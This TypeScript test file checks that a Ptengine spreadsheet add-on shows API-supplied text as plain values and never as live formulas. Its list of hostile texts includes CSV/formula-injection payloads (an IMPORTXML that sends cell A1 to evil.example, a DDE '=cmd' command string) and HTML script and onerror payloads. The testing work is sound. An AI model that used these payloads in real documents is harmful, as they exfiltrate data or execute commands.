// Nothing that an answer holds becomes a formula, and whatever an answer holds, cells are plain values or an error of ours.
import fc from "fast-check";
import type { ScriptValue } from "../../../workbench/apps-script/ports/values";
import { documentedRequests } from "../../fixtures/openApi";
import { soaked } from "../../support/soak";
import { april, documentedCells, march, page, spring, version } from "./documentedCells";
import { type AnsweredSheet, openAnsweredSheet, shownAt } from "./sheet";

let sheet: AnsweredSheet;
beforeAll(async () => {
  sheet = await openAnsweredSheet();
});
afterAll(() => sheet.close());

const hostileTexts: readonly (readonly [what: string, text: string])[] = [
  ["a formula", "=1+1"],
  ["a formula that fetches", '=IMPORTXML("http://evil.example/?"&A1,"//a")'],
  ["a link", '=HYPERLINK("http://evil.example","Click")'],
  ["a command", "=cmd|' /C calc'!A0"],
  ["a plus", "+1+1"],
  ["a minus", "-2+3"],
  ["an at sign", "@SUM(A1:A9)"],
  ["a formula behind a tab", "\t=1+1"],
  ["a formula behind a line", "\n=1+1"],
  ["a formula behind a blank", " =1+1"],
  ["a formula in wide letters", "＝1+1"],
  ["a formula of ours", '=PTENGINE_DC("country")'],
  ["HTML", "<script>alert('x')</script>"],
  ["an image", '<img src="https://evil.example/a.png" onerror="alert(1)">'],
  ["a picture of several signs", "🎉👩‍💻 great!"],
  ["another script", "هذا اختبار‏ ‮txet"],
  ["two lines", "値段が、\n少し高い"],
  ["quotes", '"quoted", with; both'],
  ["an apostrophe in front", "'leading"],
  ["a number as text", "00123"],
  ["a long number as text", "1234567890123456789"],
  ["a number with a comma", "12,500"],
  ["a share as text", "65.00%"],
  ["a date as text", "2026-04-01"],
  ["a time as text", "09:30"],
  ["a truth as text", "TRUE"],
  ["an exponent as text", "1e5"],
  ["nothing but blanks", "   "],
  ["a name that every object has", "constructor"],
];

interface Place {
  readonly what: string;
  readonly formula: string;
  /** An answer's data with the texts where users or visitors write. */
  readonly data: (texts: readonly string[]) => unknown;
  /** Where the texts stand below the header; in the header if it is missing. */
  readonly column?: number;
}

const textColumns = (...names: readonly string[]) =>
  names.map((name) => ({ name, type: "dimension", dataType: "STRING" }));
const counts = (...names: readonly string[]) => names.map((name) => ({ name, type: "metric", dataType: "INTEGER" }));

const places: readonly Place[] = [
  {
    what: "a form",
    formula: `=PTENGINE_FORM("${spring}","${version}",${march})`,
    data: (texts) => ({
      columns: ["submittedAt", "Email"],
      rows: texts.map((text) => ({ submittedAt: "2026/03/09 19:14:33", Email: text })),
    }),
    column: 1,
  },
  {
    what: "the questions of a form",
    formula: `=PTENGINE_FORM("${spring}","${version}",${march})`,
    data: (texts) => ({ columns: texts, rows: [] }),
  },
  {
    what: "the name of a dimension's value",
    formula: `=PTENGINE_DC("adName","visits",${april})`,
    data: (texts) => ({
      columns: [...textColumns("adName"), ...counts("visits")],
      rows: texts.map((text) => ({ adName: text, visits: "1" })),
    }),
    column: 0,
  },
  {
    what: "the title of a page",
    formula: `=PTENGINE_DC("entryCombinedPages","entrances",${april})`,
    data: (texts) => ({
      columns: [...textColumns("url", "title"), ...counts("entrances")],
      rows: texts.map((text) => ({ url: "https://ptengine.jp", title: text, entrances: "1" })),
    }),
    column: 1,
  },
  {
    what: "the value of a property",
    formula: `=PTENGINE_EVENT("eventDimension(price)",,${april},"eventName=purchase")`,
    data: (texts) => ({
      columns: [...textColumns("eventName", "price"), ...counts("eventCount", "sessions")],
      rows: texts.map((text) => ({ eventName: "purchase", price: text, eventCount: 1, sessions: 1 })),
    }),
    column: 1,
  },
  {
    what: "the value of a filter",
    formula: `=PTENGINE_FILTER_VALUES("utmTerm",,${april})`,
    data: (texts) => ({ filterName: "utmTerm", values: texts }),
    column: 0,
  },
  {
    what: "the name of a goal",
    formula: "=PTENGINE_GOALS()",
    data: (texts) => ({ conversions: texts.map((text) => ({ id: "1", name: text })) }),
    column: 1,
  },
  {
    what: "the address in a funnel",
    formula: `=PTENGINE_FUNNEL("ptmind signup","entryPaths",${april})`,
    data: (texts) => ({
      summary: { totalConversions: 0, totalConversionRate: "0.00%" },
      steps: [{ stepId: 1, entryPaths: texts.map((text) => ({ url: text, visits: 1 })), dropoffPaths: [] }],
    }),
    column: 1,
  },
  {
    what: "the name of a block",
    formula: `=PTENGINE_HEATMAP(${page},"blocks","impression",${march},"PC")`,
    data: (texts) => ({
      blocks: texts.map((text) => ({ blockName: text, screenshotUrl: "", metrics: { impression: { value: "1" } } })),
    }),
    column: 0,
  },
  {
    what: "the name of a device's part",
    formula: `=PTENGINE_DC("device",,${april})`,
    data: (texts) => ({
      rows: texts.map((text) => ({ deviceType: text, visits: 1 })),
    }),
    column: 0,
  },
  {
    what: "the name of a group",
    formula: `=PTENGINE_EXPERIENCE("${spring}","utmCampaign","views",${march})`,
    data: (texts) => ({ items: texts.map((text) => ({ name: text, views: { value: 1 } })) }),
    column: 0,
  },
  {
    what: "the name of a version",
    formula: `=PTENGINE_ABTEST("${spring}","bounceRate",,${march})`,
    data: (texts) => ({ items: texts.map((text) => ({ name: text, uplift: { value: "Baseline" } })) }),
    column: 0,
  },
  {
    what: "the name of a user property",
    formula: "=PTENGINE_USER_PROPERTIES()",
    data: (texts) => texts.map((text) => ({ name: "plan", displayName: text, source: ["code"], type: "STRING" })),
    column: 1,
  },
  {
    what: "the name of an experience",
    formula: "=PTENGINE_EXPERIENCES()",
    data: (texts) =>
      texts.map((text) => ({ id: spring, name: text, status: "RUNNING", type: "POPUP", goals: [], versions: [] })),
    column: 1,
  },
];

/** The texts where a place shows them, as the cells of one line. */
async function shownIn({ formula, data, column }: Place, texts: readonly string[]) {
  sheet.api.answerWith(() => ({ envelope: { code: 200, data: data(texts) } }));
  const { cells, error } = await sheet.evaluate(formula);
  const top = column === undefined ? 0 : 1;
  const zone = { top, left: column ?? 0, bottom: top + cells.length - 1, right: column ?? texts.length - 1 };
  const read = sheet.book.port.read(sheet.book.model.getters.getSheetIds()[0]!, zone);
  const shown = column === undefined ? (cells[0] ?? []) : cells.slice(1).map((row) => row[column]);
  return { error, shown, read: column === undefined ? read[0]! : read.slice(0, texts.length).map((row) => row[0]!) };
}

const allTexts = hostileTexts.map(([, text]) => text);
const long = "長い🎉 text ".repeat(6000).slice(0, 60_000);

describe("text of others stays text", () => {
  test.each(places)("in $what", async (place) => {
    const { error, shown, read } = await shownIn(place, allTexts);
    expect(error).toBeUndefined();
    expect(shown).toEqual(allTexts);
    expect(read.map(({ value, isDate }) => [typeof value, isDate])).toEqual(allTexts.map(() => ["string", false]));
    // Only the cell of the formula itself holds one.
    expect(
      read.map(({ formula }) => formula).filter((formula) => !formula.startsWith("=PTENGINE_") && formula),
    ).toEqual([]);
  });

  test.each(places)("of 60,000 characters, as far as a cell can hold it, in $what", async (place) => {
    const { error, shown } = await shownIn(place, [long]);
    expect(error).toBeUndefined();
    expect(shown.map((value) => typeof value)).toEqual(["string"]);
    expect(String(shown[0]).length).toBeLessThanOrEqual(50_000);
    expect(String(shown[0]).slice(0, 49_000)).toBe(long.slice(0, 49_000));
  });

  test("in a label of the API", async () => {
    for (const [, text] of hostileTexts) {
      sheet.api.answerWith(() => ({
        envelope: { code: 200, data: { metrics: { visits: { value: "1", label: text } } } },
      }));
      expect(await sheet.cells(`=PTENGINE_DC(,"visits",${april},,"headers=label")`)).toEqual([[text], [1]]);
    }
  });

  test("in a message of the API, which becomes an error and no longer than 300 characters", async () => {
    for (const [, text] of [...hostileTexts, ["", "very long ".repeat(6000)] as const]) {
      sheet.api.answerWith(() => ({ status: 400, envelope: { code: 4012, message: text } }));
      const { error = "" } = await sheet.evaluate(`=PTENGINE_FUNNEL("x",,${april})`);
      expect(error).toMatch(/^Ptengine 4012: /);
      expect(error.length).toBeLessThanOrEqual(300);
    }
  });

  test("also in a formula that uses the table of another", async () => {
    sheet.api.answerWith(() => ({ envelope: { code: 200, data: { values: ["=1+1", "+2"] } } }));
    await sheet.evaluate(`=PTENGINE_FILTER_VALUES("utmTerm",,${april},"headers=off")`);
    sheet.book.setFormula("D1", "=A1:A2");
    expect(shownAt(sheet.book, 3).cells).toEqual([["=1+1"], ["+2"]]);
    sheet.book.setFormula("D1", "");
  });
});

/** A value in the place of a documented one: mostly of the same kind, now and then of another. */
const numberTexts = fc.oneof(
  fc.integer({ min: -5_000_000, max: 5_000_000 }).map((value) => value.toLocaleString("en-US")),
  fc.float({ noNaN: true, noDefaultInfinity: true, min: -2, max: 3 }).map((value) => `${(value * 100).toFixed(2)}%`),
  fc.float({ noNaN: true, noDefaultInfinity: true, min: -2, max: 3 }).map((value) => `+${Math.abs(value).toFixed(2)}%`),
  fc.constantFrom("0", "0.00%", "3m 7s", "1h 0m 3s", "00:02:49", "06:33", "2.45s", "-", "", "Baseline", "N/A", "NaN"),
);
const numbers = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(0, -0, 1e308, 5e-324, Number.MAX_SAFE_INTEGER),
);
/** Such names are tested by themselves. */
const isOfEveryObject = (text: string) => text in {};
const texts = fc
  .oneof(fc.string({ unit: "grapheme", maxLength: 30 }), fc.constantFrom(...allTexts))
  .filter((text) => !isOfEveryObject(text));
const odd = fc.constantFrom<unknown>(null, true, false, [], {}, ["a", 1], { value: 1 }, { value: null, label: null });

/** Answers shaped like a documented one: lists of other lengths, values of other sizes, members missing or in vain. */
function answersLike(value: unknown): fc.Arbitrary<unknown> {
  if (Array.isArray(value)) {
    const items = value.length > 0 ? fc.oneof(...value.map(answersLike)) : fc.constant(null);
    return fc.oneof(
      { weight: 6, arbitrary: fc.array(items, { maxLength: 6 }) },
      { weight: 3, arbitrary: fc.tuple(...value.map(answersLike)) },
    );
  }
  if (typeof value === "object" && value !== null) {
    const whole = fc.record(
      Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, answersLike(inner)])),
    );
    return fc.oneof(
      { weight: 30, arbitrary: whole },
      {
        weight: 1,
        arbitrary: fc
          .tuple(whole, fc.constantFrom("", ...Object.keys(value)), texts, odd)
          .map(([{ ...members }, missing, added, addedValue]) => {
            delete (members as Record<string, unknown>)[missing];
            return { ...members, [added]: addedValue };
          }),
      },
    );
  }
  const same = typeof value === "number" ? numbers : /^[-+\d]/.test(String(value)) ? numberTexts : texts;
  return fc.oneof(
    { weight: 20, arbitrary: same },
    { weight: 12, arbitrary: fc.constant(value) },
    { weight: 1, arbitrary: fc.oneof(numberTexts, numbers, texts, odd) },
  );
}

const isPlain = (value: ScriptValue): boolean =>
  typeof value === "string" ||
  typeof value === "boolean" ||
  (typeof value === "number" && Number.isFinite(value)) ||
  (value instanceof Date && !Number.isNaN(value.getTime()));

/** The arguments of a formula that are all texts or left out. */
function callOf(formula: string): { functionName: string; args: ScriptValue[] } {
  const [, functionName = "", inner = ""] = /^=(\w+)\((.*)\)$/s.exec(formula)!;
  const args = inner === "" ? [] : inner.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
  return { functionName, args: args.map((text) => (text === "" ? undefined : text.slice(1, -1))) };
}

describe("names that every object has are as good as any other", () => {
  const inherited = ["constructor", "__proto__"];

  async function cellsFor(formula: string, data: unknown) {
    sheet.api.answerWith(() => ({ envelope: { code: 200, data } }));
    return (await sheet.cells(formula))[0]!;
  }

  test("as a column that a row lacks", async () => {
    for (const name of inherited) {
      const formula = `=PTENGINE_EVENT("eventDimension(${name})",,${april},"eventName=purchase","headers=off")`;
      const columns = [...textColumns("eventName", name), ...counts("eventCount", "sessions")];
      const cells = await cellsFor(formula, { columns, rows: [{ eventName: "purchase", eventCount: 2, sessions: 1 }] });
      expect([name, ...cells]).toEqual([name, "purchase", "", 2, 1]);
    }
  });

  test("as a metric that a row lacks", async () => {
    for (const name of inherited) {
      const columns = [...textColumns("url"), ...counts(name)];
      const cells = await cellsFor(`=PTENGINE_DC("combinedPages",,${april},,"headers=off")`, {
        columns,
        rows: [{ url: "/" }],
      });
      expect([name, ...cells]).toEqual([name, "/", ""]);
    }
  });

  test("as a question that a submission lacks", async () => {
    for (const name of inherited) {
      const cells = await cellsFor(`=PTENGINE_FORM("${spring}","${version}",${march},"headers=off")`, {
        columns: ["Email", name],
        rows: [{ Email: "a@example.com" }],
      });
      expect([name, ...cells]).toEqual([name, "a@example.com", ""]);
    }
  });

  test("as the type of a field", async () => {
    for (const name of inherited) {
      const field = { field: "price", label: "Price", description: "", dataType: name, category: "event" };
      const cells = await cellsFor('=PTENGINE_FIELDS("event","headers=off")', { metrics: [field], dimensions: [] });
      expect(cells.slice(0, 4)).toEqual(["price", "metric", name, "Price"]);
    }
  });

  test("as the type of a column", async () => {
    for (const name of inherited) {
      const cells = await cellsFor(`=PTENGINE_DC("combinedPages",,${april},,"headers=off")`, {
        columns: [...textColumns("url"), { name: "exits", type: "metric", dataType: name }],
        rows: [{ url: "/", exits: "5" }],
      });
      expect([name, ...cells]).toEqual([name, "/", "5"]);
    }
  });
});

describe("whatever an answer holds, cells are a rectangle of plain values or an error of ours", () => {
  const once = documentedCells.filter(
    ({ answer }, index) => documentedCells.findIndex((one) => one.answer === answer) === index,
  );

  test.each(once)("of $formula", async ({ answer, formula }) => {
    const documented = documentedRequests.find(({ name }) => name === answer)!.answer!;
    const { functionName, args } = callOf(formula);
    const list = documentedRequests.find(({ name }) => name === "41-experience-list")!.answer!;
    let outcomes = { tables: 0, errors: 0 };
    await fc.assert(
      fc.asyncProperty(answersLike(documented.data), async (data) => {
        sheet.api.answerWith(({ path }) => ({
          envelope: !answer.startsWith("41") && path.endsWith("/experience/list") ? list : { code: 200, data },
        }));
        sheet.forget();
        const result = await sheet.run(functionName, args);
        if (!result.ok) {
          outcomes = { ...outcomes, errors: outcomes.errors + 1 };
          expect(result.error.message).toMatch(/^Ptengine: .{10,290}$/s);
          expect(result.error.message).not.toMatch(/a fault of its own|undefined|\bat .*:\d+:\d+/);
          return;
        }
        outcomes = { ...outcomes, tables: outcomes.tables + 1 };
        const rows = result.value as ScriptValue[][];
        expect(Array.isArray(rows) && rows.length > 0 && rows.every(Array.isArray)).toBe(true);
        expect(new Set(rows.map((row) => row.length)).size).toBe(1);
        expect(rows.flat().filter((value) => !isPlain(value))).toEqual([]);
      }),
      { numRuns: soaked(16, 60), seed: 20_260_916 },
    );
    // The answers must not be so odd that nothing is ever shown.
    expect(outcomes.tables).toBeGreaterThan(0);
  });
});
